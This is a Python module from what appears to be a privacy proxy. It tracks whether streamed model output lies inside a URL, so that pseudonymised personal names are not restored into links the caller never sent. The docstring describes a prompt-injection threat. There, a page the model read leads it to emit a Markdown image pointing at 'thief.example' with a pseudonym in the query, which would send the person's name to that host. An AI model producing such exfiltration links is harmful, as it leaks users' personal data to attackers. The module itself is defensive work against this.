"""Where a URL runs, so that nothing personal is written into one that the caller never sent.

Threat T07: a page that the model read makes it answer `![](https://thief.example/?q=PERSON_a7k2)`;
restored, the reader's browser would carry the name there. So a pseudonym inside a URL stays one,
unless the request held that URL up to and including it.

The reading is the attacker's: what some renderer (WHATWG URL, CommonMark, HTML, linkifiers) takes
for part of a URL is part of it. So brackets, quotes and backslashes end one only where something
that opened before it demands it, and the destinations of links and images count as URLs whatever
they look like (their characters may be written as entities).
"""

import re
from bisect import bisect_left
from collections.abc import Iterator
from typing import NamedTuple

_SCHEMES = frozenset(
    {
        *("http", "https", "ftp", "ftps", "ws", "wss", "file", "blob", "data", "javascript"),
        *("vbscript", "intent", "mailto", "tel", "sms", "callto", "sip", "sips", "xmpp", "skype"),
        *("whatsapp", "facetime", "market", "magnet"),
    }
)
"""Schemes that need no `//` behind them (browsers add it for `https:thief.example`)."""
_LABEL = "[A-Za-z0-9][A-Za-z0-9-]{0,62}+"
_START = re.compile(
    r"\](?:(?P<link>\()|(?P<reference>:))"
    r"|(?<![A-Za-z0-9_:/])//"
    r"|(?<![A-Za-z])(?P<scheme>[a-z][a-z0-9]{0,31}+):(?P<slashes>//)?"
    r"|(?<![A-Za-z0-9])(?:"
    r"(?P<attribute>(?<!-)(?:href|src(?:set)?|p(?:ing|oster)|formaction)\s{0,2}=)"
    r"|(?P<css>url\()"
    r"|LINK_"
    r"|(?<![._-])www\d{0,3}+\."
    rf"|(?:{_LABEL}\.){{1,8}}[a-z]{{2,24}}(?::\d{{1,5}})?[/?#])",
    re.IGNORECASE | re.ASCII,
)
_HINT = re.compile("[]:/?#=(]")
_START_MAX = 8 * 64 + 24 + 6 + 1
"""Characters of the longest match of `_START`."""

_CLOSERS = {"(": ")", "[": "]", "{": "}", "|": "|", "'": "'", "`": "`"}
_END = "\0"
"""Stands for the end of a JSON string: it ends any URL."""


def _closing(stops: str) -> re.Pattern[str]:
    return re.compile(rf"\\.?|[{stops}{_END}]", re.DOTALL)


class _Kind(NamedTuple):
    """How a URL ends: a pattern of escapes, stops and, for pairs, further openers."""

    stop: re.Pattern[str]
    opener: str = ""
    closer: str = ""


_BARE = _Kind(_closing(r'\s<>"'))
_BARE_IN = {
    opener: _Kind(
        _closing(r'\s<>"' + re.escape(opener + closer)),
        opener if opener != closer else "",
        closer,
    )
    for opener, closer in _CLOSERS.items()
}
_LINK = _Kind(_closing(r"\s()"), "(", ")")
_BLANKED = _Kind(_closing(r"\s"))
_ANGLE = _Kind(_closing(r"\n>"))
_UNQUOTED = _Kind(_closing(r"\s>"))
_QUOTED = {quote: _Kind(_closing(quote)) for quote in "\"'"}
_DESTINATIONS: dict[str, dict[str, _Kind]] = {
    "link": {"": _LINK, "<": _ANGLE},
    "reference": {"": _BLANKED, "<": _ANGLE},
    "attribute": {"": _UNQUOTED, **_QUOTED},
    "css": {"": _LINK, **_QUOTED},
}

_ESCAPE = re.compile(r'\\u([0-9A-Fa-f]{4})|\\(.)|(")', re.DOTALL)
_CUT_ESCAPE = re.compile(r"(?<!\\)(?:\\\\)*+(\\(?:u[0-9A-Fa-f]{0,3})?)\Z")
_SHORT = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}


def _unescaped(found: re.Match[str]) -> str:
    if found[1]:
        return chr(int(found[1], 16))
    return _END if found[3] else _SHORT.get(found[2], found[2])


def _plain(url: str) -> str:
    """A URL without the escapes of Markdown and HTML that leave its host what it is."""
    return url.replace("\\_", "_").replace("&amp;", "&")


_PUNCTUATION = ".,;:!'*_~)"
_HOST = re.compile(r"[^/?#]{0,255}")
_AUTHORITY = re.compile(r"(?:[a-z][a-z0-9]*:)?(?://)?[^/?#]*", re.IGNORECASE | re.ASCII)
"""A URL of which less than its host has been read (or that has none)."""
_PAUSE = re.compile(rf"[{re.escape(_PUNCTUATION)}\]}}`]{{0,8}}")
_HOST_ENDS = re.compile(rf'{_PAUSE.pattern}[\s/?#<>"|{_END}]')
"""What ends a host: no letter, digit or escape may come before the next delimiter."""
_HOST_MAX = 600


class KnownUrls:
    """The URLs of a request as it was sent, asked for by their beginnings.

    Args:
        urls: from `urls_in` over the pseudonymised texts.
    """

    __slots__ = ("_sorted", "longest")

    def __init__(self, urls: frozenset[str]) -> None:
        self._sorted = sorted(urls)
        self.longest = max(map(len, urls), default=0)

    def begin_with(self, start: str) -> bool:
        """Whether one of them begins so."""
        plain = _plain(start)
        return self._has(start) or (plain != start and self._has(plain))

    def hosts_after(self, start: str) -> set[str]:
        """How the host goes on in those that begin so."""
        plain = _plain(start)
        return {
            _HOST.match(self._sorted[place], len(begin))[0].rstrip(_PUNCTUATION)  # type: ignore[index]
            for begin in (start, plain)
            for place in self._places(begin)
        }

    def _places(self, start: str) -> Iterator[int]:
        place = bisect_left(self._sorted, start)
        while place < len(self._sorted) and self._sorted[place].startswith(start):
            yield place
            place += 1

    def _has(self, start: str) -> bool:
        place = bisect_left(self._sorted, start)
        return place < len(self._sorted) and self._sorted[place].startswith(start)


_NO_URLS = KnownUrls(frozenset())
_URL_MAX = 8192
_MARGIN = 32
"""Characters remembered beyond the longest known URL, so that a longer one is seen to be none."""
_ATTRIBUTE_MAX = 16
"""More characters than `formaction  ` has: only attributes hold blanks where they begin."""
_HARD = "\0 \n\r\t"
"""Characters that end a URL even behind a backslash, where they end it at all."""
_ADDRESSES = frozenset({"mailto:", "tel:"})


class UrlTracker:
    """Reads a text piece by piece and knows whether its end stands inside a URL.

    Args:
        known: URLs in which restoring is allowed.
        json: the text is the source of JSON strings.
        ended: where URLs are written down when they end; None: nowhere.
    """

    __slots__ = (
        "_cut",
        "_depth",
        "_destination",
        "_ended",
        "_json",
        "_keep",
        "_kind",
        "_known",
        "_tail",
        "_url",
    )

    def __init__(
        self, known: KnownUrls = _NO_URLS, *, json: bool = False, ended: list[str] | None = None
    ) -> None:
        self._known = known
        self._json = json
        self._ended = ended
        self._keep = _URL_MAX if ended is not None else known.longest + _MARGIN
        self._cut = ""  # JSON: an escape that is not complete yet
        self._tail = ""  # outside: what a URL may begin in; inside: a backslash at the end
        self._kind: _Kind | None = None
        self._destination = ""  # a destination was opened, and nothing but blanks came since
        self._depth = 0
        self._url = ""

    @property
    def kept(self) -> int:
        """Characters in memory; bounded by the longest known URL."""
        return len(self._tail) + len(self._url) + len(self._cut)

    @property
    def inside(self) -> bool:
        """Whether the text so far ends inside a URL, or where one is expected."""
        return self._kind is not None

    def allows(self, key: str, text: str, end: int, *, final: bool) -> bool | None:
        """Whether a pseudonym may be restored right here; None: more text will tell.

        Args:
            key: the pseudonym.
            text: holds the pseudonym and what followed so far.
            end: where the pseudonym ends in it.
            final: no more text follows.
        """
        if self._kind is None:
            return True
        url = self._url + self._tail
        if not url or url.lower() in _ADDRESSES:
            return True
        if not self._known.begin_with(url + key):
            return False
        if _AUTHORITY.fullmatch(url) is None:
            return True
        return self._same_host(url + key, text[end : end + _HOST_MAX], final=final)

    def _same_host(self, start: str, after: str, *, final: bool) -> bool | None:
        """Whether the host goes on as in the known URL: `PERSON_a7k2.thief.example` is another."""
        if self._json:
            cut = _CUT_ESCAPE.search(after)
            after = _ESCAPE.sub(_unescaped, after[: len(after) - len(cut[1])] if cut else after)
        if final:
            after += _END
        undecided = False
        for rest in self._known.hosts_after(start):
            if after.startswith(rest) and _HOST_ENDS.match(after, len(rest)):
                return True
            undecided |= rest.startswith(after)
            undecided |= after.startswith(rest) and _PAUSE.fullmatch(after, len(rest)) is not None
        return None if undecided else False

    def enter(self, url: str) -> None:
        """A URL begins here: a restored value was one, and what follows it prolongs it."""
        if self._kind is None:
            self._begin(_BARE, url)

    def see(self, text: str) -> None:
        """Take the next text."""
        if self._json:
            text = self._decoded(text)
        start = 1 if self._kind is None and len(self._tail) > _START_MAX else 0
        text, self._tail = self._tail + text, ""
        while start < len(text):
            if self._destination:
                start = self._open(text, start)
            elif self._kind is None:
                start = self._search(text, start)
            else:
                start = self._follow(text, start)

    def end(self) -> None:
        """No more text."""
        if self._kind is not None:
            self._leave()

    def _decoded(self, text: str) -> str:
        text = self._cut + text
        cut = _CUT_ESCAPE.search(text)
        self._cut = cut[1] if cut else ""
        return _ESCAPE.sub(_unescaped, text[: len(text) - len(self._cut)])

    def _search(self, text: str, start: int) -> int:
        """Outside: to where the next URL begins."""
        found = _first(text, start)
        if found is None:
            self._tail = _beginning(text, start)
            return len(text)
        if found.lastgroup in _DESTINATIONS:
            self._destination = found.lastgroup
            self._begin(_LINK, "")
            return found.end()
        before = text[found.start() - 1] if found.start() else ""
        self._begin(_BARE_IN.get(before, _BARE), "")
        return found.start()

    def _begin(self, kind: _Kind, url: str) -> None:
        self._kind, self._url, self._depth, self._tail = kind, url, 0, ""

    def _open(self, text: str, start: int) -> int:
        """Behind `](`, `href=` and the like: blanks, then perhaps a quote."""
        start += len(text[start:]) - len(text[start:].lstrip())
        if start == len(text):
            return start
        kinds = _DESTINATIONS[self._destination]
        kind = kinds.get(text[start])
        self._destination = ""
        self._begin(kind or kinds[""], "")
        return start + 1 if kind else start

    def _follow(self, text: str, start: int) -> int:
        """Inside: to where the URL ends."""
        kind = self._kind or _BARE
        for found in kind.stop.finditer(text, start):
            mark = found[0]
            if mark == "\\":  # what it escapes has not come yet
                self._remember(text[start:-1])
                self._tail = mark
                return len(text)
            if mark == kind.opener:
                self._depth += 1
            elif mark == kind.closer and self._depth:
                self._depth -= 1
            elif len(mark) == 1 or (mark[1] in _HARD and kind.stop.fullmatch(mark[1])):
                self._remember(text[start : found.start()])
                self._leave()
                return found.start()
        self._remember(text[start:])
        return len(text)

    def _leave(self) -> None:
        self._kind = None
        if self._ended is not None and self._url:
            self._ended.append(self._url)

    def _remember(self, text: str) -> None:
        room = self._keep - len(self._url)
        self._url += text[: max(room, 0)]


def _may_hold(text: str) -> bool:
    """A quick look: whether a URL can begin anywhere in a text."""
    if _HINT.search(text) is not None:
        return True
    low = text.lower()  # pseudonyms bring `_` into most answers, so LINK_ is looked for as a word
    return "www" in low or "link_" in low


def _first(text: str, start: int) -> re.Match[str] | None:
    """Where the first URL begins."""
    if not _may_hold(text):
        return None
    found = _START.search(text, start)
    while found is not None and found["scheme"] and not found["slashes"]:
        before = text[found.start() - 1 : found.start()]
        if found["scheme"].lower() in _SCHEMES and before not in {".", "-"}:
            break  # a word and a colon that make a scheme
        found = _START.search(text, found.end())
    return found


def _beginning(text: str, start: int) -> str:
    """The end of a text without URLs, as far as one may begin in it, and one character before."""
    text = text[max(start - 1, len(text) - _START_MAX - 1, 0) :]
    blank = text.rfind(" ", 0, max(len(text) - _ATTRIBUTE_MAX, 0))
    return text[blank:] if blank > 0 else text


def ends_in_url(text: str) -> bool:
    """Whether what is written behind this text would prolong a URL."""
    if not _may_hold(text):
        return False
    tracker = UrlTracker()
    tracker.see(text)
    return tracker.inside


def urls_in(text: str, *, json: bool = False) -> frozenset[str]:
    """The URLs of a text that is about to be sent, as it is sent; each cut at 8192 characters."""
    if not _may_hold(text):
        return frozenset()
    found: list[str] = []
    tracker = UrlTracker(json=json, ended=found)
    tracker.see(text)
    tracker.end()
    return frozenset(found)
